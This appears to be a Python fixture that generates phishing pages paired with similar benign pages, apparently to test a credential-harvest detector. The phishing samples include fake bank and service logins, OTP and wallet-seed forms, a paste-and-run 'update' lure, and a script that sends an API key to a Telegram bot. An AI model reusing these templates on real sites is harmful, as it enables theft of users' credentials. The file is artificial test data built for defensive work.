"""Pages that would harvest secrets, each with a legitimate page that looks much like it."""

from layouts import centred, plain, with_nav

FILLER = "The river was built over in 1820, and people of the town remember how it began. " * 110
GUIDE = "A library lends books, maps and records; ask at the desk which shelf holds what you are looking for. " * 60


def harvest():
    user = "<input name=user placeholder='User name'>"
    yield "twin-01-user-name-first", centred("Login | Tangerine", f"<img alt='Tangerine logo' src=l.svg><form action=040148.php>{user}<button>Continue</button></form>")
    yield "twin-02-code-alone", centred(
        "Vérification - Netflix", "<form action=otp.php><p>Un code à 6 chiffres a été envoyé.</p><input name=n1 placeholder='Entrez le code'><button>Vérifier</button></form>", "fr")
    yield "twin-03-delivery-address", centred(
        "Royal Mail: schedule your redelivery",
        "<form action=step2.php><input placeholder='Full name'><input placeholder='Address line 1'><input placeholder='City'>"
        "<input placeholder=Postcode><input placeholder='Phone number'><button>Next</button></form>")
    yield "twin-04-phrase-in-textarea", centred(
        "Restore wallet", "<p>Enter your 12 or 24 word recovery phrase, separated by single spaces.</p><form><textarea name=pkey></textarea><button>Restore</button></form>")
    yield "twin-05-twelve-short-fields", centred(
        "Import your wallet", "<p>Type your recovery phrase.</p><form action=w.php>" + "".join(f"<input placeholder='{n}.'>" for n in range(1, 13)) + "</form>")
    yield "twin-06-text-field-for-password", centred(
        "PayPal", "<p>Your account has been temporarily blocked.</p><form><input name=a placeholder=Email><label>Password <input name=b></label></form>")
    yield "twin-07-session-cookie", centred(
        "Instagram verification", "<p>Paste your cookies to confirm that the account is yours.</p><form><input name=c placeholder='sessionid cookie'></form>")
    yield "twin-08-nameless-loan", centred(
        "Loan approved", "<form><input name=mail placeholder=Email><input type=password placeholder='Email password'><input placeholder='ATM PIN'>"
        "<input placeholder=CVV><button>Release the money</button></form>")
    yield "twin-09-hold-windows-key", centred(
        "Working on updates", "<p>Check security, 95% complete.</p><ol><li>Hold the Windows key and press R.</li><li>Hold Ctrl and press V.</li><li>Press Enter to finish the update.</li></ol>")
    yield "twin-10-clone-in-title", centred("PayPal login clone (tutorial)", "<form><input name=u><input type=password name=p></form>")
    yield "twin-11-hidden-prose", centred("Netflix", f"<div style='display:none'>{FILLER}</div><form action=l.php><input name=u><input type=password name=p></form>")
    yield "twin-12-prose-behind-a-class", centred(
        "Sign in", f"<style>.more{{position:absolute;left:-9999px}}</style><div class=more>{FILLER}</div><p>Update your billing: your DHL account has been limited.</p>"
        "<form><input name=u><input type=password name=p></form>")
    yield "twin-13-collector", centred("Welcome", "<form action=post.php method=post><input name=u><input type=password name=p></form>")
    yield "twin-14-numbers-for-names", centred("Sign in", "<form action=next.aspx method=post><input name=1><input type=password name=2></form>")
    yield "twin-15-much-pressure", centred(
        "Notice", "<p>Verification required: your account has been blocked after suspicious activity. Verify your identity within 24 hours.</p>"
        "<form><input name=u><input type=password name=p></form>")
    yield "twin-16-key-to-a-bot", centred(
        "Key tester", "<label>OpenAI API key <input name=k></label><script>fetch('https://api.telegram.org/bot000000:INVALID/sendMessage?text='+k.value)</script>")
    yield "twin-17-password-named-key", centred(
        "Outlook", "<form><input name=user placeholder=Email><input type=password name=api_key placeholder='Enter it here'></form>")
    yield "twin-18-steps-of-a-kit", {
        "index.html": centred("DHL Express", "<h1>Track your parcel</h1><form action=code.html><input name=user placeholder='User name'><input type=password name=p><button>Sign in</button></form>"),
        "code.html": centred("Confirm", "<form action=done.php><input name=otp placeholder='SMS code'></form>"),
    }


def honest():
    yield "login_demo-71-posts-to-login", centred(
        "Student portal", "<form action=login.php method=post><label>User name <input name=username></label><label>Password <input type=password name=password></label></form>"
        "<p><a href=register.php>Register</a></p>")
    yield "login_demo-72-contact-us", with_nav(
        "Acorn – Sign in", "<p>Contact us using our Twitter account or our Facebook page.</p><form action=signin.php method=post><input name=email><input type=password name=password></form>")
    yield "login_demo-73-template-preview", "<!-- saved from url=(0040)https://preview.colorlib.com/login-form/ -->\n" + centred(
        "Login V5", "<form><input name=username><input type=password name=pass></form>")
    yield "login_demo-74-pictures-of-a-travel-site", with_nav(
        "Wander", "<img src='https://cdn.wander.test/a.jpg' alt='A beach'><form onsubmit='return false'><input name=email><input type=password name=password></form>")
    yield "login_demo-75-por-favor", centred("Iniciar sesión", "<p>Por favor, ingresa tus datos.</p><form action=login.php><input name=usuario><input type=password name=password1></form>", "es")
    yield "login_demo-76-shown-by-a-button", centred("Show the password", "<input type=password id=p><img src=eye.png onclick='p.type=p.type==\"text\"?\"password\":\"text\"'>")
    yield "token-01-openai", centred("OpenAI prompt tester", "<label>OpenAI API token <input type=password name=token placeholder='sk-…'></label><textarea placeholder=Prompt></textarea>"
                                     "<script>fetch('https://api.openai.com/v1/responses',{headers:{Authorization:'Bearer '+token.value}})</script>")
    yield "token-02-github", centred("GitHub stars", "<label>GitHub token <input name=t></label><button>Load</button><script>fetch('https://api.github.com/user/starred')</script>")
    yield "token-03-telegram-bot", centred("Telegram bot sender", "<label>Telegram bot token <input name=t></label><input placeholder='Chat ID'>"
                                           "<script>fetch(`https://api.telegram.org/bot${t.value}/sendMessage`)</script>")
    yield "token-04-discord-webhook", centred("Discord message builder", "<label>Webhook URL <input name=w placeholder='https://discord.com/api/webhooks/…'></label>"
                                              "<script>fetch(w.value,{method:'POST'})</script>")
    yield "crypto-31-word-list", centred("BIP39 word list", "<p>Look up a word of the list. Everything happens in this page, offline.</p><input name=q placeholder='Search a word'>")
    yield "crypto-32-keys-of-a-server", centred("TLS key checker", "<p>Compares a certificate with its private key, in this page.</p><textarea name=key placeholder='Private key (PEM)'></textarea>")
    yield "crypto-33-twelve-fields", centred("Crossword", "<p>Fill in the row.</p>" + "".join(f"<input name=c{n} maxlength=12>" for n in range(12)))
    yield "docs-71-install", plain("Install Fern", "<h1>Install</h1><p>Open PowerShell, paste this and press Enter:</p><pre>iwr https://fern.test/install.ps1 | iex</pre>"
                                   "<p>On a Mac, open Terminal and run:</p><pre>curl -fsSL https://fern.test/install.sh | sh</pre><button onclick='navigator.clipboard.writeText(cmd)'>Copy</button>")
    yield "docs-72-keyboard-shortcuts", plain("Keyboard shortcuts of Windows", "<table><tr><td>Windows + R</td><td>Opens the Run dialog</td></tr><tr><td>Windows + X</td><td>Quick menu</td></tr>"
                                              "<tr><td>Alt + Tab</td><td>Switches windows</td></tr></table><p>" + GUIDE[:2400] + "</p>")
    yield "form-71-newsletter-beside-networks", with_nav(
        "Gym", "<h2>Instagram</h2><img alt='Instagram' src=i.jpg><form action=index.php><input name=firstname><input name=lastname><input name=address><input name=city><input type=email name=email></form>")
    yield "form-72-tabs", with_nav("Guide", f"<style>.tab{{display:none}}</style><p>{GUIDE[:3000]}</p><div class=tab>{GUIDE[:3000]}</div><form action=search><input name=q></form>")
    yield "game-71-user-of-a-service", centred("Github profiles", "<input type=text placeholder='Search a GitHub user'><div id=main></div>")
